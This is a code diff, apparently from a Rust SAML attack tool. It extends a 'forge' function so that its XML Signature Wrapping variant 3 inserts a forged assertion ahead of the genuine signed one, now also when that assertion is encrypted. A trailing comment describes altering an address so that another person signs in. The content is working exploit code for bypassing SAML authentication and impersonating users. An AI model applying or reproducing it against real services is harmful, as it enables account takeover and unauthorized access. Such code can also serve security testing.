@@ -12,8 +12,10 @@ pub fn forge(response: &str, statement: &Statement, signing: Signing) -> String 
         // XSW 1: a new response around the genuine one, which hides in an object of its own signature.
         return around(response, &forged);
     }
-    // XSW 3: the forged assertion comes before the signed one.
-    response.replacen("<saml:Assertion ", &format!("{}<saml:Assertion ", forged.assertion()), 1)
+    // XSW 3: the forged assertion comes before the signed one, which may be encrypted.
+    let tags = ["<saml:EncryptedAssertion ", "<saml:Assertion "];
+    let genuine = tags.into_iter().find(|tag| response.contains(tag)).unwrap_or_default();
+    response.replacen(genuine, &format!("{}{genuine}", forged.assertion()), 1)
 }
 
 /// Puts `forged.` before the address, so that another person signs in.
